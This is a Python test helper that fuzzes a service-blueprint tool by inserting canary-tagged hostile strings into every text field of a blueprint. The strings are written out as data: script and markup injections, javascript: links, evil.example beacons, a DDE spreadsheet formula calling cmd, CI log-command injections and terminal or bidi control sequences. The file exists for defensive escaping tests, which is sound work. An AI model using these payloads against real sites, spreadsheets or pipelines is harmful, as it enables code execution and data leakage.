"""Texts that could do harm somewhere, and a blueprint that has one of them in every place that takes a text."""

from __future__ import annotations

from typing import Any

from blueprint.graph.build import build
from blueprint.graph.graph import Graph
from blueprint.model.records import validator
from tests.hostile_texts import TEXTS

CANARY = "Canary7"
"""Stands in each text, so that it can be looked for in whatever is written."""

MARKUP = (
    "</title></style></script><script>{}()</script>", '" onload="{}()" x="', "' onload='{}()' x='", "]]><x {}='1'/>",
    "--><script>{}()</script><!--", "<![CDATA[<{}/>]]>", "<?php {} ?>", "<!DOCTYPE x [<!ENTITY {} 'x'>]>&{};",
    "&#60;{}&#62; &lt;{}&gt; &{};", "</script {}", "<math><mi//xlink:href='data:x,{}'>", "<svg/onload={}()>",
    "<foreignObject>{}</foreignObject>", "{}\u2028</script>\u2029", "<a\u0000 href=x>{}</a>",
)  # fmt: skip
LINKS = (
    "javascript:{}()", "JaVaScRiPt:{}()", "data:text/html,{}", "[{}](javascript:x)", "![{}](//evil.example/x.png)",
    "<https://evil.example/{}>", "https://evil.example/{}", "www.evil.example/{}", "vbscript:{}", "file:///etc/{}",
    "[{}]: javascript:x", "\\\\evil.example\\{}",
)  # fmt: skip
FORMULAS = (
    "=1+1+{}", "+1+{}", "-1+{}", "@SUM({})", "\t=1+{}", "\r=1+{}", "\n=1+{}", " =1+{}", "=cmd|'/c {}'!A1", "\uff1d1+{}",
    '=HYPERLINK("//evil.example/{}")', '"=1+{}"', ";=1+{}", ",=1+{}", "'=1+{}", "\ufeff=1+{}", "\u200b=1+{}",
)  # fmt: skip
COMMANDS = (
    "::error::{}", "\n::error file=x::{}", "%0A::set-output name=x::{}", "##[error]{}", "\n##vso[task.x]{}",
    "\r::warning::{}", "::add-mask::{}", "\x0b::error::{}", "\x85::error::{}", "\u2028::error::{}", "]{}::",
)  # fmt: skip
CONTROLS = (
    "\x1b[31m{}\x1b[0m", "\x1b]8;;http://evil.example\x07{}\x1b]8;;\x07", "\x9b31m{}", "{}\x00x", "{}\x07\x08\x7f",
    "a\rb{}", "\ufffe{}\uffff", "{}\ufdd0", "\U0001fffe{}", "\u202e{}\u2066", "\u2067{}\u202c",
    "{}\u200b\u200d\u2060\u00ad", "\ufeff{}", "\u200f{}\u061c", "\U000e0041{}\U000e007f", "é{}" + "\u0336" * 50,
    "{}\u2028x\u2029", "\x85{}\x1c\x1d",
)  # fmt: skip
OTHERS = (
    "{}\\", '{}\\"', "{}\\\\", "{}'", '{}"', "`{}`", "``{}``", "{}\\n\\l\\r\\N\\G", "${{{}}}", "{{{{ {} }}}}",
    "{{% {} %}}", "%{}%", "%%{{init: {}}}%%", "%% {}", "# {}", "{}|x|y", "\n\n{}\n\n", "{}\n---\n", "click n0 {}",
    "end {}", "subgraph {}", "style n0 {}", "n0 --> {}", "n0@{{ shape: {} }}", '"]; click n0 "{}', "; {}", "title {}",
    "section {}: 5: me", "accTitle: {}", "$${}$$", "\\href{{x}}{{{}}}", "#link(\"x\")[{}]", "#import \"{}\"", "*{}*",
    "_x0041_{}", "<{}", ">{}", "&{}", "{}:1:2: error", "- [ ] {}", "1. {}", "> {}", "<!-- {}", "@{} #12 !3",
    "前台 👩‍🍳 {}", "مرحبا {}", "{}" + "x" * 400, "{} " * 60,
)  # fmt: skip
PAYLOADS: tuple[str, ...] = tuple(
    text.format(*[CANARY] * text.count("{")) for text in (*MARKUP, *LINKS, *FORMULAS, *COMMANDS, *CONTROLS, *OTHERS)
) + tuple(f"{text}{CANARY}" for text in TEXTS)


def everywhere(text: str) -> dict[str, Any]:
    """A blueprint with the text in every field that takes one, and figures for every analysis."""
    notes = {kind: [text] for kind in ("pain", "idea", "question", "opportunity", "quote", "note")} | {
        "source": "tests"
    }
    scores = {"experience": 2, "expectation": 8, "importance": 9, "ideal": 9}
    fails = {"what": text, "owner": text, "recovery": "b", "severity": 9, "occurrence": 9, "detection": 9}
    first = {
        "id": "a", "customer": {"id": "ac", "does": text, "emotion": {"felt": -2, "target": 1}, "notes": notes},
        "touchpoints": ["t1", text, {"name": f"{text}3", "owner": text, "with": [text], "notes": text}],
        "frontstage": {"id": "af", "does": text, "by": text, "needs": [text, "s1"], "owner": text, "takes": "9 min"},
        "backstage": [{"id": "ab", "does": text, "fails": fails, "notes": text}, text], "support": text,
        "line": {"does": text}, "signs": text, "fails": [text, fails], "notes": notes, "waits": "9 min",
        "tolerates": "1 min", "decides": True, "scores": scores, "level": "coping",
        "next": [{"to": "b", "when": text}, {"to": "c", "when": text}],
    }  # fmt: skip
    second = {"id": "b", "customer": text, "frontstage": text, "emotion": 2, "next": "c"}
    third = {"id": "c", "customer": text, "emotion": 3, "touchpoints": ["t2"], "support": "s1"}
    figures = {"name": text, "unit": text, "owner": text, "actual": 9, "target": "<= 5"}
    return {
        "blueprint": 1, "title": text, "scenario": text, "goal": text, "scale": [-3, 3],
        "customers": {"customer": {"name": text, "notes": text}},
        "owners": {"o1": {"name": text, "contact": text}, "o2": {"name": f"{text}2", "part_of": "o1"}},
        "touchpoints": {"t1": {"name": text, "owner": "o2", "with": [text], "notes": notes, "scores": scores},
                        "t2": {"name": f"{text}2", "scores": {"experience": 9, "expectation": 3, "importance": 2}}},
        "systems": {"s1": {"name": text, "owner": text}},
        "policies": {"p1": {"name": text, "says": text, "owner": "o1"}},
        "lanes": {"line": {"kind": "backstage", "name": text},
                  "signs": {"kind": "touchpoint", "name": text, "owner": text}},
        "journey": [{"phase": text, "stage": "before", "steps": [first]},
                    {"phase": f"{text}2", "steps": [second, third]}],
        "links": [{"from": "af", "to": "ab", "label": text, "artefact": text}, {"from": "ab", "to": "b/frontstage"}],
        "promises": {"r1": {"says": text, "at": "a", "promised": "5 min", "delivered": "9 min", "owner": text}},
        "indicators": {f"i{number}": {**figures, "at": at, "complaints": {"2026-09": 40 - number, "2026-10": 31}}
                       for number, at in enumerate(("a", "t1", "b"))},
        "factors": {"price": {"experience": 1, "expectation": 7}},
        "ignore": [{"rule": "BP301", "at": "t2", "why": text}],
    }  # fmt: skip


def graph_with(text: str) -> Graph:
    """The graph of such a blueprint, made in Python, where no loader has refused anything."""
    record = validator("Blueprint").validate_python(everywhere(text))
    record.shared = ()
    return build(record)
